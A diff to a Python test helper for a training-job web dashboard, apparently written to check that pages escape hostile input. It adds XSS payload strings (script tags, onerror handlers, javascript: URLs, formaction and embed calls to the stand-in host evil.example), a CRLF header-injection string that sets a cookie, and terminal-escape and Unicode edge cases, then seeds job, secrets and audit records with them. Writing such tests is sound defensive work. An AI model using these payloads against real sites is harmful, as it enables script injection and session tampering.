@@ -9,6 +9,7 @@ import sqlalchemy as sa
 from support.web import Web
 from trainforge.config.messages import Gpu
 from trainforge.sender import schema
+from trainforge.sender.schema_trust import audit, secrets
 
 PAYLOADS = (
     "<script>alert(1)</script>",
@@ -48,6 +49,30 @@ PAYLOADS = (
     "\u202e<b>txet\u2066\u2069",
     "<<SCRIPT>alert(1);//<</SCRIPT>",
     "<scr\u0000ipt/src=//evil.example>",
+    "<object data=https://evil.example/>",
+    "<embed src=https://evil.example/>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<table background=javascript:alert(1)>",
+    "<button formaction=https://evil.example/>Stop</button>",
+    "<marquee onstart=alert(1)>",
+    "<plaintext>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<!--<script>alert(1)//",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "\\u003cscript\\u003ealert(1)",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "//evil.example/x",
+    "\x1b[2J\x1b[31mred\x1b[0m\x1b]0;title\x07<b>",
+    "\u200b\u200d\ufeff\u00ad<b>zero width",
+    "Z\u0351\u0352\u0353" * 40 + "<b>",
+    "\u2028\u2029<b>line ends",
+    "a\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>",
+    "<b>" * 2000,
+    "\U0001f4a5<b>\ue000\ufffe",
 )
 PAGES = (
     "/jobs",
@@ -55,9 +80,15 @@ PAGES = (
     "/jobs/{job}/log",
     "/jobs/{job}/again",
     "/compare?jobs={job}",
-    "/executors",
+    "/executors?view=grid",
     "/events",
     "/account",
+    "/queue",
+    "/executors?view=table",
+    "/executors/{executor}",
+    "/settings",
+    "/settings/secrets",
+    "/settings/audit",
 )
 
 
@@ -77,9 +108,18 @@ class HostileSite:
             first = site.sender.store.take_cursors(c, self.job, 1)
             entry = {"job_id": self.job, "cursor": first, "time": 1.0, "kind": "x", "text": "x"}
             c.execute(sa.insert(schema.timeline).values(entry))
+            kept = {
+                "repository_id": "builtin:demo",
+                "name": "S",
+                "sealed": "",
+                "branches": [],
+                "changed": 1.0,
+            }
+            c.execute(sa.insert(secrets).values(kept | {"by": "ada"}))
+        self.waiting = site.add_job()
 
     def pages(self) -> list[str]:
-        return [page.format(job=self.job) for page in PAGES]
+        return [page.format(job=self.job, executor=self.executor) for page in PAGES]
 
     def say(self, *payloads: str) -> None:
         """One after the other, a field each, from the start again where there are more fields."""
@@ -102,6 +142,7 @@ class HostileSite:
             "metrics": {loss: t(), f"{loss}2": 0.5},
         }
         self.site.set(self.job, **job)
+        self.site.set(self.waiting, project=t(), ref=t(), waiting={t(): t()})
         gpu = Gpu(uuid=t(), model=t(), memory_bytes=1).model_dump()
         machine = {"hostname": t(), "python": t(), "torch": t(), "labels": {t(): t()}, "gpus": [gpu]}
         watched = t()  # the same name at both, or the page of events has a button less
@@ -118,3 +159,6 @@ class HostileSite:
             c.execute(sa.update(s.metric_points).values(values={loss: 0.5, f"{loss}2": 0.25}))
             c.execute(sa.update(s.timeline).values(kind=t(), text=t()))
             c.execute(sa.update(s.access_tokens).values(name=t()))
+            c.execute(sa.update(secrets).values(name=t(), branches=[t(), t()], by=t()))
+            said = {"actor": t(), "action": t(), "subject": t(), "detail": {t(): t()}}
+            c.execute(sa.update(audit).where(audit.c.n == 1).values(said))
